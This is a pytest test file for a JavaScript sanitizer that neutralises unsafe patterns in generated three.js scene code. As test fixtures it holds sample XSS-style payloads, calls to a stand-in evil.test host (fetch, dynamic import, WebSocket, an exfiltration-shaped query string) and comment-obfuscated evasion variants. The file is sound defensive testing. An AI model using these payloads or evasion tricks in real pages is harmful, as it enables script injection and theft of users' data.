import re

import pytest

from mindscape import code_sanitizer
from mindscape.code_sanitizer import BLOCKLIST, clean, sanitize, scan, strip_fences, verify
from mindscape.errors import UnsafeContentError


_MARKER_RE = re.compile(r"void 0 /\* \[blocked:[a-z-]+\] \*/")

BENIGN = """
const scene = new THREE.Scene();
scene.fog = new THREE.FogExp2(0x1a1a2a, 0.05);
const renderer = new THREE.WebGLRenderer({ antialias: true });
renderer.setSize(window.innerWidth, window.innerHeight);
document.body.appendChild(renderer.domElement);
function onWindowResize() {
  renderer.setSize(window.innerWidth, window.innerHeight);
}
window.addEventListener('resize', onWindowResize);
setTimeout(() => scene.add(new THREE.AmbientLight(0x404040)), 100);
const label = 'function (x) { return x; }';
function animate() {
  requestAnimationFrame(animate);
  renderer.render(scene, camera);
}
animate();
"""


@pytest.mark.parametrize(
    "snippet, signature",
    [
        ("document.cookie = 'a=b';", "document-cookie"),
        ("localStorage.setItem('x', 'y');", "local-storage"),
        ("sessionStorage.clear();", "session-storage"),
        ("indexedDB.open('db');", "indexed-db"),
        ("eval(code);", "evaluation-call"),
        ("window['eval']('1');", "evaluation-lookup"),
        ("new Function('return 1')();", "function-constructor"),
        ("[].constructor.constructor('alert(1)')();", "constructor-call"),
        ("setTimeout('run()', 10);", "string-timer"),
        ("const s = atob('ZXZhbA==');", "base64-decode"),
        ("String.fromCharCode(101, 118);", "char-code-assembly"),
        ("import('https://evil.test/x.js');", "dynamic-import"),
        ("const fs = require('fs');", "require-call"),
        ("new Worker('w.js');", "worker"),
        ("fetch('https://evil.test');", "resource-fetching"),
        ("new XMLHttpRequest();", "xhr"),
        ("new WebSocket('wss://evil.test');", "websocket"),
        ("navigator.sendBeacon('/x', data);", "send-beacon"),
        ("parent.postMessage('hi', '*');", "post-message"),
        ("el.innerHTML = '<b>x</b>';", "inner-html"),
        ("el.outerHTML = '';", "inner-html"),
        ("el.insertAdjacentHTML('beforeend', s);", "insert-adjacent-html"),
        ("document.write('x');", "document-write"),
        ("const t = '<script>alert(1)</script>';", "script-tag"),
        ("const f = '<iframe src=x>';", "frame-tag"),
        ("document.createElement('script');", "create-script-element"),
        ("a.href = 'javascript:alert(1)';", "javascript-url"),
        ("frame.srcdoc = html;", "inline-frame-document"),
        ("window.location = 'https://evil.test';", "window-location"),
        ("location.href = '/x';", "location-assign"),
        ("window.open('https://evil.test');", "window-open"),
        ("const b = '<img onerror=\"x()\">';", "inline-event-handler"),
        ("const b = '<img src=x onerror=alert(1)>';", "inline-event-handler"),
        ("const s = '<svg/onload=go()>';", "inline-event-handler"),
        ("range.createContextualFragment(markup);", "contextual-fragment"),
        ("new DOMParser().parseFromString(s, 'text/html');", "dom-parser"),
        ("fetch/**/('https://evil.test');", "resource-fetching"),
        ("window// nav\n.open(u);", "window-open"),
        ("document /* c */ . cookie;", "document-cookie"),
    ],
)
def test_each_signature_is_neutralised(snippet, signature):
    result = sanitize(snippet)
    assert signature in result.fired
    assert scan(result.code) == []
    assert f"[blocked:{signature}]" in result.code


def test_benign_scene_code_passes_untouched():
    result = sanitize(BENIGN)
    assert result.fired == {}
    assert result.code == BENIGN.strip()


def test_markers_never_trip_the_gate():
    for sig in BLOCKLIST:
        assert scan(sig.marker) == [], sig.name


@pytest.mark.parametrize(
    "code",
    [
        'const f = "ev" + "al(x)";',
        "eval(atob('ZG9jdW1lbnQuY29va2ll'));",
        "evaleval((x)",
        "localStorage.setItem('x','y'); fetch (url); window . location = u;",
        "el.innerHTML = '<scr' + 'ipt>';",
        "```javascript\nwindow.open('x')\n```",
    ],
)
def test_sanitizing_twice_changes_nothing(code):
    once = sanitize(code)
    twice = sanitize(once.code)
    assert twice.code == once.code
    assert twice.fired == {}


def test_cleanup_replaces_storage_call_with_marker():
    cleaned, fired = clean("localStorage.setItem('x','y');\nscene.add(mesh);")
    assert "localStorage" not in cleaned
    assert "/* [blocked:local-storage] */" in cleaned
    assert fired == {"local-storage": 1}


def test_gate_rejects_residual_patterns():
    with pytest.raises(UnsafeContentError) as ei:
        verify('eval(atob("ZG9jdW1lbnQ="))')
    assert {"evaluation-call", "base64-decode"} <= set(ei.value.signatures)
    assert ei.value.stage == "code_verified"


def test_sanitize_fails_closed_when_cleanup_misses(monkeypatch):
    monkeypatch.setattr(code_sanitizer, "clean", lambda code: (code, {}))
    with pytest.raises(UnsafeContentError):
        sanitize("fetch('https://evil.test')")


def test_strip_fences():
    assert strip_fences("```javascript\nconst a = 1;\n```") == "const a = 1;"
    assert strip_fences("```js\nx()\n```\n") == "x()"
    assert strip_fences("plain();") == "plain();"


@pytest.mark.parametrize(
    "code",
    [
        'eval localStorage("alert(document.domain)")',
        "window.open sessionStorage(url)",
        "fetch/**/('https://evil.test/?c=' + 1)",
        "const g = eval; g('1');",
        "fetch?.(url)",
    ],
)
def test_cleanup_leaves_no_callable_residue(code):
    result = sanitize(code)
    assert scan(result.code) == []
    residue = _MARKER_RE.sub("", result.code)
    for name in ("eval", "fetch", "window.open", "Storage"):
        assert name not in residue


def test_marker_stays_an_expression_in_call_position():
    result = sanitize('eval localStorage("x")')
    assert scan(result.code) == []
    assert "/* [blocked:local-storage] */(" in result.code
    assert "void 0 /* [blocked:local-storage] */" in result.code
    assert result.fired == {"local-storage": 1, "evaluation-call": 1}


@pytest.mark.parametrize(
    "code, signature",
    [
        ("fetch/**/(u)", "resource-fetching"),
        ("window . /* x */ open(u)", "window-open"),
        ("new/**/Worker('w.js')", "worker"),
        ("require // c\n('fs')", "require-call"),
    ],
)
def test_gate_sees_through_comments(code, signature):
    with pytest.raises(UnsafeContentError) as ei:
        verify(code)
    assert signature in ei.value.signatures


@pytest.mark.parametrize(
    "code",
    [
        "renderer.domElement.onclick = () => controls.reset();",
        "if (onload == null) {}",
        "items.forEach((onerror) => onerror);",
        "const url = 'https://cdn.example/texture.png'; // remote texture",
    ],
)
def test_handler_properties_and_comments_are_not_flagged(code):
    assert scan(code) == []


def test_long_comment_runs_scan_quickly():
    code = "new" + "// note \n /* a */ " * 3000 + "Thing;"
    assert scan(code) == []
